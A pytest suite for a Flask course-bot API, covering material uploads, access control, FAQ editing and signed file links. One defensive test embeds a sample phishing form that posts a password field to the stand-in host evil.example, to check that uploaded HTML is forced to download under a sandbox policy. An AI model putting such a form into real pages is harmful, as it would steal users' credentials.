"""The materials and FAQ JSON API as the teacher page uses it; learners and other courses are kept out."""
from __future__ import annotations

from typing import Callable

import pytest
from flask import Flask

from course_bots.materials.jobs import run_pending
from course_bots.materials.links import check_signature
from tests.conftest import scanned_pdf
from tests.test_course_bots.conftest import auth_headers, post_file

NOTES = b"# Osmosis\n\n" + b"Water moves across a semipermeable membrane towards higher solute concentration. " * 8


@pytest.fixture
def aapp(two_courses: Callable[..., Flask]) -> Flask:
    """Courses 1 and 2 on SQLite; uploads up to 1 MB."""
    return two_courses(max_upload_mb=1)


def test_teacher_uploads_sees_progress_and_ready_status(aapp: Flask) -> None:
    client, teacher = aapp.test_client(), auth_headers(aapp)
    response = post_file(client, teacher, "Osmose Übung.md", NOTES)
    assert response.status_code == 201, response.json
    item = response.get_json()["materials"][0]
    assert (item["status"], item["filename"], item["queued"]) == ("queued", "Osmose Übung.md", True)
    with aapp.app_context():
        run_pending()
    listing = client.get("/api/v1/bots/1/materials", headers=teacher).get_json()
    ready = listing["materials"][0]
    assert ready["status"] == "ready" and ready["chunks"] >= 1 and ready["error"] is None
    assert ready["progress"]["done"] == ready["progress"]["total"]
    assert listing["usage"]["bytes"] == len(NOTES)
    again = post_file(client, teacher, "Osmose Übung.md", NOTES)
    assert again.status_code == 200 and again.get_json()["materials"][0]["queued"] is False
    assert client.get(f"/api/v1/bots/1/materials/{ready['id']}", headers=teacher).get_json()["status"] == "ready"


def test_upload_errors_are_clear(aapp: Flask) -> None:
    client, teacher = aapp.test_client(), auth_headers(aapp)
    big = post_file(client, teacher, "big.txt", b"word " * 300_000)
    assert big.status_code == 413 and big.get_json()["error"]["code"] == "too_large"
    assert "This file is 1.5 MB; the limit is 1 MB" in big.get_json()["error"]["message"]
    empty = post_file(client, teacher, "empty.txt", b"")
    assert empty.status_code == 400 and empty.get_json()["error"]["code"] == "empty"
    exe = post_file(client, teacher, "tool.exe", b"MZ\x90\x00" + b"\x00" * 64)
    assert exe.status_code == 415 and exe.get_json()["error"]["code"] == "unsupported_type"
    assert "not supported" in exe.get_json()["error"]["message"]
    none = client.post("/api/v1/bots/1/materials", headers=teacher, data={}, content_type="multipart/form-data")
    assert none.status_code == 400 and none.get_json()["error"]["code"] == "no_file"


def test_failed_file_shows_reason(aapp: Flask) -> None:
    client, teacher = aapp.test_client(), auth_headers(aapp)
    post_file(client, teacher, "scan.pdf", b"%PDF-1.4\n" + b"garbage " * 100)
    with aapp.app_context():
        run_pending()
    item = client.get("/api/v1/bots/1/materials", headers=teacher).get_json()["materials"][0]
    assert item["status"] == "failed" and item["error"]["code"] == "corrupt"


def test_learners_and_other_courses_are_refused(aapp: Flask) -> None:
    client = aapp.test_client()
    assert client.get("/api/v1/bots/1/materials").status_code == 401
    learner = client.get("/api/v1/bots/1/materials", headers=auth_headers(aapp, role="learner"))
    assert learner.status_code == 403 and learner.get_json()["error"]["code"] == "forbidden"
    other = client.get("/api/v1/bots/1/materials", headers=auth_headers(aapp, bot_id=2))
    assert other.status_code == 403
    assert post_file(client, auth_headers(aapp, bot_id=2), "x.md", NOTES, bot_id=1).status_code == 403
    assert client.post("/api/v1/bots/1/faq", headers=auth_headers(aapp, role="learner"),
                       json={"question": "q", "answer": "a"}).status_code == 403


def test_delete_reindex_and_toggle(aapp: Flask) -> None:
    client, teacher = aapp.test_client(), auth_headers(aapp)
    material_id = post_file(client, teacher, "n.md", NOTES).get_json()["materials"][0]["id"]
    with aapp.app_context():
        run_pending()
    patched = client.patch(f"/api/v1/bots/1/materials/{material_id}", headers=teacher,
                           json={"students_may_open": True})
    assert patched.status_code == 200 and patched.get_json()["students_may_open"] is True
    assert client.patch(f"/api/v1/bots/1/materials/{material_id}", headers=teacher,
                        json={"students_may_open": "yes"}).status_code == 400
    reindexed = client.post(f"/api/v1/bots/1/materials/{material_id}/reindex", headers=teacher)
    assert reindexed.status_code == 202 and reindexed.get_json()["status"] == "queued"
    assert client.post("/api/v1/bots/1/materials/reindex", headers=teacher).get_json()["queued"] == [material_id]
    other_course = auth_headers(aapp, bot_id=2)
    assert client.delete(f"/api/v1/bots/2/materials/{material_id}", headers=other_course).status_code == 404
    assert client.delete(f"/api/v1/bots/1/materials/{material_id}", headers=teacher).status_code == 204
    assert client.get("/api/v1/bots/1/materials", headers=teacher).get_json()["materials"] == []
    assert client.delete(f"/api/v1/bots/1/materials/{material_id}", headers=teacher).status_code == 404


def test_faq_crud(aapp: Flask) -> None:
    client, teacher = aapp.test_client(), auth_headers(aapp)
    created = client.post("/api/v1/bots/1/faq", headers=teacher,
                          json={"question": "When is the exam?", "answer": "On 12 February."})
    assert created.status_code == 201
    faq_id = created.get_json()["id"]
    assert client.post("/api/v1/bots/1/faq", headers=teacher, json={"question": "x"}).status_code == 400
    changed = client.put(f"/api/v1/bots/1/faq/{faq_id}", headers=teacher,
                         json={"question": "When is the exam?", "answer": "On 19 February (moved)."})
    assert changed.get_json()["answer"] == "On 19 February (moved)."
    assert [e["id"] for e in client.get("/api/v1/bots/1/faq", headers=teacher).get_json()["faq"]] == [faq_id]
    assert client.get("/api/v1/bots/2/faq", headers=auth_headers(aapp, bot_id=2)).get_json()["faq"] == []
    assert client.delete(f"/api/v1/bots/1/faq/{faq_id}", headers=teacher).status_code == 204
    assert client.get("/api/v1/bots/1/faq", headers=teacher).get_json()["faq"] == []


def test_students_open_originals_only_when_allowed_through_short_lived_links(aapp: Flask) -> None:
    client, teacher, learner = aapp.test_client(), auth_headers(aapp), auth_headers(aapp, role="learner")
    material_id = post_file(client, teacher, "Skript.md", NOTES).get_json()["materials"][0]["id"]
    link_url = f"/api/v1/bots/1/materials/{material_id}/link?page=3"
    assert client.get(link_url, headers=learner).status_code == 403
    client.patch(f"/api/v1/bots/1/materials/{material_id}", headers=teacher, json={"students_may_open": True})
    link = client.get(link_url, headers=learner).get_json()
    assert link["url"].startswith("http://localhost:5000/api/v1/bots/1/materials/") and link["url"].endswith("#page=3")
    path = link["url"][len("http://localhost:5000"):].split("#")[0]
    opened = client.get(path)  # no session header: the signature is the credential
    assert opened.status_code == 200 and opened.data == NOTES
    assert "Skript.md" in opened.headers["Content-Disposition"]
    sig = path.split("sig=")[1]
    assert client.get(f"/api/v1/bots/2/materials/{material_id}/file?sig={sig}").status_code == 403
    assert client.get(f"/api/v1/bots/1/materials/{material_id}/file?sig=forged").status_code == 403
    assert client.get(link_url, headers=auth_headers(aapp, bot_id=2, role="learner")).status_code == 403
    with aapp.app_context():
        assert check_signature(1, material_id, sig)
        assert not check_signature(1, material_id, sig, max_age=-1)  # expired


def _open_original(aapp: Flask, name: str, data: bytes):  # type: ignore[no-untyped-def]
    client, teacher = aapp.test_client(), auth_headers(aapp)
    uploaded = post_file(client, teacher, name, data)
    assert uploaded.status_code == 201, uploaded.get_json()
    material_id = uploaded.get_json()["materials"][0]["id"]
    link = client.get(f"/api/v1/bots/1/materials/{material_id}/link", headers=teacher).get_json()["url"]
    return client.get(link[len("http://localhost:5000"):].split("#")[0])


def test_uploaded_html_is_downloaded_never_shown_as_a_page_of_our_origin(aapp: Flask) -> None:
    page = (b"<html><body><h1>Skript</h1><form action='https://evil.example/'><input name=pw></form>" + NOTES
            + b"</body></html>")
    opened = _open_original(aapp, "Skript.html", page)
    assert opened.status_code == 200 and opened.data == page
    assert opened.headers["Content-Disposition"].startswith("attachment;")
    assert opened.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in opened.headers["Content-Security-Policy"]


def test_pdf_originals_open_in_the_browsers_viewer(aapp: Flask) -> None:
    opened = _open_original(aapp, "Vorlesung.pdf", scanned_pdf([None]))
    assert opened.status_code == 200 and opened.mimetype == "application/pdf"
    assert opened.headers["Content-Disposition"].startswith("inline;")
    assert opened.headers["X-Content-Type-Options"] == "nosniff"
